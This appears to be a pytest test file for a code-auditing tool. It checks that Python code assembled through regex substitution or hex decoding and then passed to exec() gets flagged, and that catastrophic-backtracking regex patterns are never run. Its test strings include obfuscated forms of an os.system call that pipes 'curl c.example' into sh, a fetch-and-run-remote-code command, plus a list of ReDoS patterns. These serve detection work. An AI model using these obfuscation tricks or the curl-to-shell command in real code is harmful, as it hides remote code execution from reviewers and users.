"""Regular expressions of audited code: what they find in known texts, and which of them are never run."""

from __future__ import annotations

import re

import pytest

from mlsupply.evidence.python.syntax import quietly
from tests.test_code_facts import found


def runs(made: str) -> bool:
    """Is it told that code which is put together in this way is executed, or what that does? made: an expression."""
    told = found({"pyproject.toml": "", "demo/__init__.py": f"import re\nexec({made})\n"})
    return not told.isdisjoint({"MLS-C002", "MLS-C004"})


@pytest.mark.parametrize(
    "made",
    [
        "re.sub('#', '', 'import o#s;os.sys#tem(\"curl c.example|sh\")')",
        "re.sub(r'(?i)X+', '', 'import oxs;os.sysXXtem(\"curl c.example|sh\")')",
        "re.subn('#', '', 'import o#s;os.sys#tem(\"curl c.example|sh\")')[0]",
        "re.compile('#').sub('', 'import o#s;os.sys#tem(\"curl c.example|sh\")')",
        "''.join(chr(int(one.group(), 16)) for one in re.finditer('..', '696d706f7274206f733b'))",
        "''.join(chr(int(one[0] + one[1], 16)) for one in re.findall('(.)(.)', '696d706f7274206f733b'))",
        "''.join(chr(int(one, 16)) for one in re.search('is (?P<all>[0-9a-f,]+)!', 'is 69,6d,28!')['all'].split(','))",
        "''.join(chr(int(one, 16)) for one in re.match('(.+) (.+) (.+)$', '69 6d 28').groups())",
        "''.join(chr(int(one, 16)) for one in re.split('[-+]', '69-6d+70-6f+72-74'))",
    ],
)
def test_code_that_a_pattern_puts_together_is_told(made: str) -> None:
    assert runs(made)


def test_a_function_that_gives_what_is_not_known_leaves_a_template() -> None:
    template = "import re, sys\ndef render(table):\n    return re.sub('<(.)>', lambda one: table[one[1]], 'print(<a>)')\n"
    assert not found({"pyproject.toml": "", "demo/__init__.py": template + "exec(render(sys.modules))\n"})


ENDLESS = [
    "(a+)+$", "(a|a)*$", "(a*)*b", r"(.)\\1+$", "(?=a+b)c", "a*a*b", "a?" * 30 + "a" * 30, "a{0,99}a{0,99}b", ".*.*=",
    "(?:a{1,90}){1,90}b", "(?:a|a)(?:a|a)(?:a|a)(?:a|a)(?:a|a)(?:a|a)(?:a|a)(?:a|a)(?:a|a)(?:a|a)b", "a" * 5_000,
    "(a)?" * 99, "a*+b*c*d", "(?x)a + + b", "(?P<a", "[", "*a",
]  # fmt: skip


def noted(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The patterns that are compiled from now on, and not run."""
    ran: list[str] = []

    def note(text: str) -> re.Pattern[str]:
        ran.append(text)
        return re.compile("x")

    monkeypatch.setattr(quietly, "pattern_of", note)
    return ran


@pytest.mark.parametrize("pattern", ENDLESS)
@pytest.mark.parametrize("call", ["re.sub(P, '', T)", "re.findall(P, T)", "re.compile(P).search(T)", "re.split(P, T)"])
def test_a_pattern_that_could_take_for_ever_is_not_run(pattern: str, call: str, monkeypatch: pytest.MonkeyPatch) -> None:
    ran = noted(monkeypatch)
    code = f"import re\nP = '{pattern}'\nT = '{'a' * 3_000}'\nexec(str({call}))\n"
    found({"pyproject.toml": "", "demo/__init__.py": code})
    assert not ran


def test_a_thousand_long_searches_use_up_the_steps_of_their_function(monkeypatch: pytest.MonkeyPatch) -> None:
    ran = noted(monkeypatch)
    code = f"import re\nT = '{'a' * 1_300}'\nfor one in range(1_000):\n    exec(str(re.sub('a*b', str(one), T)))\n"
    found({"pyproject.toml": "", "demo/__init__.py": code})
    assert 0 < len(ran) < 50


def test_a_pattern_python_cannot_compile_is_none() -> None:
    assert not runs("re.sub('a{9,1}', 'x', 'aaa')")
